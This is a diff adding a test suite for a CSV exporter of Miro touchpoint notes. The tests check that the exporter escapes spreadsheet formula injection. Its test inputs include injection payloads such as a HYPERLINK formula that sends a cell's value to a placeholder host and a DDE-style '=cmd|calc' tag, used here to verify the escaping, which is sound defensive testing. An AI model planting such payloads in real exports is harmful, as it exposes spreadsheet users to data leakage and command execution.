@@ -1,0 +1,408 @@
+import { readFileSync } from 'node:fs';
+import fc from 'fast-check';
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import {
+  type CsvDelimiter,
+  csvFileName,
+  FORMULA_START,
+  noteLink,
+  notesCsv,
+  readDelimiter,
+  summaryCsv,
+  tableCsv,
+} from '../../src/core/csv.ts';
+import type { SavedScoring } from '../../src/core/saved-scores.ts';
+import { counted, note, tallyOf, unassigned } from '../fixtures/csv/tally.ts';
+
+const AWKWARD = [
+  'He said "fine", then left',
+  'comma, inside',
+  'two\nlines',
+  'windows\r\nline break',
+  'Доставка опоздала на неделю',
+  'Zażółć gęślą jaźń',
+  'Emoji 👍🏽 and 🙁',
+  '=1+1',
+  '-slow delivery',
+  '+fast',
+  '@SUM(A1)',
+  '\tstarts with tab',
+  '\rstarts with CR',
+  '=HYPERLINK("http://x.example/?q="&A1,"click")\nsecond line',
+  ' =1+1',
+  'semi;colon',
+  'tab\tinside',
+  "'already quoted",
+];
+
+const awkwardTally = tallyOf(
+  AWKWARD.map((text, index) =>
+    counted(note(String(1000 + index), text), { phase: 'during', touchpoint: 'Checkout' }, 'negative'),
+  ),
+);
+
+const DELIMITERS: readonly CsvDelimiter[] = [',', ';', '\t'];
+
+function parse(csv: string, delimiter: CsvDelimiter): string[][] {
+  const text = csv.startsWith('\uFEFF') ? csv.slice(1) : csv;
+  const result = Papa.parse<string[]>(text, { delimiter, newline: '\r\n', skipEmptyLines: true });
+  expect(result.errors).toEqual([]);
+  return result.data;
+}
+
+/** What a reader gets back after removing the export's apostrophe from an escaped cell. */
+function withoutApostrophe(cell: string): string {
+  return cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell;
+}
+
+describe('notesCsv round trip', () => {
+  for (const delimiter of DELIMITERS) {
+    it(`keeps every awkward note text through a real CSV parser with ${JSON.stringify(delimiter)}`, () => {
+      const rows = parse(notesCsv(awkwardTally, { language: 'en', delimiter }), delimiter);
+      const texts = rows.slice(1).map((row) => row[2] ?? '');
+      expect(texts.map(withoutApostrophe)).toEqual(AWKWARD);
+      expect(rows.every((row) => row.length === 12)).toBe(true);
+    });
+  }
+
+  it('never leaves a cell a spreadsheet would run as a formula', () => {
+    for (const delimiter of DELIMITERS) {
+      const rows = parse(notesCsv(awkwardTally, { language: 'en', delimiter }), delimiter);
+      for (const cell of rows.flat()) expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
+    }
+  });
+
+  it('shows a negative note with a leading apostrophe and its text otherwise unchanged', () => {
+    const rows = parse(notesCsv(awkwardTally, { language: 'en' }), ',');
+    const texts = rows.map((row) => row[2]);
+    expect(texts).toContain("'-slow delivery");
+    expect(texts).toContain("'=1+1");
+    expect(texts).toContain("'@SUM(A1)");
+    expect(texts).toContain("'already quoted");
+  });
+
+  it('round-trips any text in any delimiter (property)', () => {
+    fc.assert(
+      fc.property(
+        fc.string({ unit: 'grapheme', maxLength: 30 }),
+        fc.constantFrom(...DELIMITERS),
+        (text, delimiter) => {
+          const tally = tallyOf([
+            counted(note('1', text), { phase: 'before', touchpoint: 'Web' }, 'neutral'),
+          ]);
+          const rows = parse(notesCsv(tally, { language: 'en', delimiter }), delimiter);
+          expect(withoutApostrophe(rows[1]?.[2] ?? '')).toBe(text);
+          expect(FORMULA_START.test(rows[1]?.[2] ?? '')).toBe(false);
+        },
+      ),
+    );
+  });
+
+  it('escapes formulas in board labels, tags and map names too', () => {
+    const tally = tallyOf([
+      counted(
+        note('1', 'ok', { tags: ['=cmd|calc'] }),
+        { map: '+Persona', phase: 'after', touchpoint: '-Support' },
+        'positive',
+      ),
+    ]);
+    const [, row] = parse(notesCsv(tally, { language: 'en' }), ',');
+    expect(row?.slice(4, 8)).toEqual(["'=cmd|calc", "'+Persona", 'after purchase', "'-Support"]);
+  });
+});
+
+describe('notesCsv content', () => {
+  const slow = note('3458764564249021457', '<b>not html</b> slow', { colour: 'red', tags: ['urgent', 'Q3'] });
+  const tally = tallyOf([
+    counted(slow, { map: 'Persona Anna', phase: 'after', touchpoint: 'Delivery' }, 'negative', 'zone', [
+      { signal: 'colour', sentiment: 'negative' },
+      { signal: 'tag', sentiment: 'positive' },
+    ]),
+    unassigned(note('2', 'floating'), 'no-phase'),
+    unassigned(note('3', ''), 'empty'),
+  ]);
+
+  it('has one row per note read, the unassigned ones with their reason', () => {
+    const rows = parse(notesCsv(tally, { language: 'en', boardId: 'uXjVOabc=' }), ',');
+    expect(rows).toEqual([
+      [
+        'id',
+        'link',
+        'text',
+        'colour',
+        'tags',
+        'map',
+        'phase',
+        'touchpoint',
+        'sentiment',
+        'signal',
+        'conflict',
+        'unassigned reason',
+      ],
+      [
+        '3458764564249021457',
+        'https://miro.com/app/board/uXjVOabc=/?moveToWidget=3458764564249021457',
+        '<b>not html</b> slow',
+        'red',
+        'urgent, Q3',
+        'Persona Anna',
+        'after purchase',
+        'Delivery',
+        'negative',
+        'zone',
+        'colour: negative; tag: positive',
+        '',
+      ],
+      [
+        '2',
+        'https://miro.com/app/board/uXjVOabc=/?moveToWidget=2',
+        'floating',
+        'light_yellow',
+        '',
+        '',
+        '',
+        '',
+        '',
+        '',
+        '',
+        'outside every phase',
+      ],
+      [
+        '3',
+        'https://miro.com/app/board/uXjVOabc=/?moveToWidget=3',
+        '',
+        'light_yellow',
+        '',
+        '',
+        '',
+        '',
+        '',
+        '',
+        '',
+        'empty note',
+      ],
+    ]);
+    expect(rows.length - 1).toBe(tally.notes);
+  });
+
+  it('speaks Polish and Russian in headers and fixed words, never in board text', () => {
+    const pl = parse(notesCsv(tally, { language: 'pl' }), ',');
+    expect(pl[0]?.[7]).toBe('punkt styku');
+    expect(pl[1]?.slice(6, 11)).toEqual([
+      'po zakupie',
+      'Delivery',
+      'negatywna',
+      'strefa',
+      'kolor: negatywna; tag: pozytywna',
+    ]);
+    expect(pl[2]?.[11]).toBe('poza etapami');
+    const ru = parse(notesCsv(tally, { language: 'ru' }), ',');
+    expect(ru[0]?.[2]).toBe('текст');
+    expect(ru[1]?.[6]).toBe('после покупки');
+    expect(ru[3]?.[11]).toBe('пустая заметка');
+  });
+
+  it('leaves the link empty when the board id is unknown', () => {
+    const rows = parse(notesCsv(tally, { language: 'en' }), ',');
+    expect(rows.slice(1).map((row) => row[1])).toEqual(['', '', '']);
+    expect(noteLink('a/b?', '7')).toBe('https://miro.com/app/board/a%2Fb%3F/?moveToWidget=7');
+  });
+});
+
+describe('summaryCsv', () => {
+  const tally = tallyOf([
+    counted(note('1', 'great site'), { phase: 'before', touchpoint: 'Website' }, 'positive'),
+    counted(note('2', 'slow'), { phase: 'during', touchpoint: 'Checkout' }, 'negative'),
+    counted(note('3', 'broken'), { phase: 'during', touchpoint: 'Checkout' }, 'negative'),
+    counted(note('4', 'ok'), { phase: 'during', touchpoint: 'Checkout' }, 'neutral'),
+    counted(note('5', 'late'), { phase: 'during', touchpoint: 'Checkout' }, 'negative'),
+  ]);
+
+  it('writes counts and a negative net as plain numbers a spreadsheet can sum', () => {
+    const csv = summaryCsv(tally, { language: 'en', bom: false });
+    expect(csv.split('\r\n')).toEqual([
+      'map,phase,touchpoint,type,positive,neutral,negative,total,net,share negative,weakest-link rank',
+      ',before purchase,Website,digital,1,0,0,1,1,0,',
+      ',during purchase,Checkout,,0,1,3,4,-3,0.75,1',
+      '',
+    ]);
+    const parsed = Papa.parse<Record<string, unknown>>(csv, {
+      header: true,
+      dynamicTyping: true,
+      skipEmptyLines: true,
+    });
+    expect(parsed.data.map((row) => row.net)).toEqual([1, -3]);
+  });
+
+  it('writes the share with a decimal comma in the ; form, for the locales that need it', () => {
+    const csv = summaryCsv(tally, { language: 'pl', delimiter: ';', bom: false });
+    expect(csv.split('\r\n')[2]).toBe(';w trakcie zakupu;Checkout;;0;1;3;4;-3;0,75;1');
+    const withDot = summaryCsv(tally, { language: 'pl', delimiter: ';', bom: false, decimalSeparator: '.' });
+    expect(withDot.split('\r\n')[2]).toContain(';-3;0.75;1');
+  });
+
+  it('separates with tabs in the tab form', () => {
+    const csv = summaryCsv(tally, { language: 'en', delimiter: '\t', bom: false });
+    expect(csv.split('\r\n')[1]).toBe('\tbefore purchase\tWebsite\tdigital\t1\t0\t0\t1\t1\t0\t');
+  });
+
+  it('fills the type column from the catalogue, by a name in any language, or from the lookup it is given', () => {
+    const ru = tallyOf([
+      counted(note('1', 'удобно'), { phase: 'before', touchpoint: 'Сайт' }, 'positive'),
+      counted(note('2', 'долго'), { phase: 'after', touchpoint: 'Infolinia' }, 'negative'),
+      counted(note('3', 'ок'), { phase: 'after', touchpoint: 'Самовывоз' }, 'neutral'),
+    ]);
+    const rows = parse(summaryCsv(ru, { language: 'ru' }), ',');
+    expect(rows[0]?.slice(0, 4)).toEqual(['карта', 'этап', 'точка контакта', 'тип']);
+    expect(rows.slice(1).map((row) => row[3])).toEqual(['цифровая', 'через людей', '']);
+    const own = parse(summaryCsv(ru, { language: 'en', touchpointType: () => 'physical' }), ',');
+    expect(own.slice(1).map((row) => row[3])).toEqual(['physical', 'physical', 'physical']);
+  });
+
+  it('adds the previous counts and the change in net score, including rows that vanished', () => {
+    const previous: SavedScoring = {
+      savedAt: 1,
+      notes: 4,
+      unassigned: 0,
+      rows: [
+        { map: null, phase: 'during', touchpoint: 'Checkout', positive: 1, neutral: 0, negative: 1 },
+        { map: null, phase: 'after', touchpoint: 'Support', positive: 0, neutral: 0, negative: 2 },
+      ],
+    };
+    const rows = parse(summaryCsv(tally, { language: 'en', previous }), ',');
+    expect(rows[0]?.slice(11)).toEqual([
+      'previous positive',
+      'previous neutral',
+      'previous negative',
+      'previous net',
+      'net change',
+    ]);
+    expect(rows.slice(1)).toEqual([
+      [
+        '',
+        'before purchase',
+        'Website',
+        'digital',
+        '1',
+        '0',
+        '0',
+        '1',
+        '1',
+        '0',
+        '',
+        '0',
+        '0',
+        '0',
+        '0',
+        '1',
+      ],
+      [
+        '',
+        'during purchase',
+        'Checkout',
+        '',
+        '0',
+        '1',
+        '3',
+        '4',
+        '-3',
+        '0.75',
+        '1',
+        '1',
+        '0',
+        '1',
+        '0',
+        '-3',
+      ],
+      ['', 'after purchase', 'Support', '', '0', '0', '0', '0', '0', '', '', '0', '0', '2', '-2', '2'],
+    ]);
+  });
+});
+
+describe('BOM and encoding', () => {
+  const tally = tallyOf([
+    counted(note('1', 'Wysyłka — Доставка'), { phase: 'after', touchpoint: 'Poczta' }, 'neutral'),
+  ]);
+
+  it('starts with a UTF-8 byte order mark by default so Excel reads Cyrillic and Polish letters', () => {
+    const bytes = Buffer.from(notesCsv(tally, { language: 'pl' }), 'utf8');
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(bytes.toString('utf8')).toContain('Wysyłka — Доставка');
+  });
+
+  it('has no byte order mark when asked', () => {
+    const csv = tableCsv('summary', tally, { language: 'en', bom: false });
+    expect(csv.startsWith('map,')).toBe(true);
+    expect(tableCsv('notes', tally, { language: 'en', bom: false }).startsWith('id,')).toBe(true);
+  });
+});
+
+describe('golden files', () => {
+  // Checked by hand once (2026-05): opened the bytes, read each quoting decision against RFC 4180
+  // and each escaped cell against FORMULA_START's doc comment.
+  const tally = tallyOf([
+    counted(
+      note('3458764564249021457', 'Fast, friendly "help"'),
+      { map: 'Anna', phase: 'before', touchpoint: 'Call centre' },
+      'positive',
+    ),
+    counted(
+      note('3458764564249021458', '-slow\nreply'),
+      { map: 'Anna', phase: 'before', touchpoint: 'Call centre' },
+      'negative',
+      'marker',
+      [{ signal: 'colour', sentiment: 'positive' }],
+    ),
+    counted(
+      note('3458764564249021459', '=1+1'),
+      { map: 'Anna', phase: 'after', touchpoint: 'Delivery' },
+      'negative',
+      'colour',
+    ),
+    unassigned(note('3458764564249021460', 'Доставка, zażółć'), 'no-touchpoint'),
+  ]);
+
+  it('writes the summary exactly as the checked file', () => {
+    const expected = readFileSync(new URL('../fixtures/csv/summary.en.csv', import.meta.url), 'utf8');
+    expect(summaryCsv(tally, { language: 'en', boardId: 'uXjVOabc=' })).toBe(expected);
+  });
+
+  it('writes the notes exactly as the checked file', () => {
+    const expected = readFileSync(new URL('../fixtures/csv/notes.en.csv', import.meta.url), 'utf8');
+    expect(notesCsv(tally, { language: 'en', boardId: 'uXjVOabc=' })).toBe(expected);
+  });
+});
+
+describe('csvFileName', () => {
+  const day = new Date(2026, 2, 5, 23, 59);
+
+  it('names the file after the board, the table and the local date', () => {
+    expect(csvFileName('Persona: Anna / web', day, 'notes')).toBe('Persona-Anna-web_notes_2026-03-05.csv');
+  });
+
+  it('keeps Cyrillic and Polish letters and drops characters file systems forbid', () => {
+    expect(csvFileName('Карта «клиента»', day, 'summary')).toBe('Карта-клиента_summary_2026-03-05.csv');
+    expect(csvFileName('Ścieżka? <zakupu>*', day, 'summary')).toBe('Ścieżka-zakupu_summary_2026-03-05.csv');
+  });
+
+  it('falls back to the app name when nothing usable is left, and stays short', () => {
+    expect(csvFileName(' ??? ', day, 'notes')).toBe('touchpoint-tally_notes_2026-03-05.csv');
+    expect(csvFileName('x'.repeat(200), day, 'notes').length).toBe(60 + '_notes_2026-03-05.csv'.length);
+  });
+});
+
+describe('readDelimiter', () => {
+  it('understands what a user types on the command line', () => {
+    expect([',', ';', 'tab', '\t', 'TAB', 'semicolon', '|', ''].map(readDelimiter)).toEqual([
+      ',',
+      ';',
+      '\t',
+      '\t',
+      '\t',
+      ';',
+      null,
+      null,
+    ]);
+  });
+});
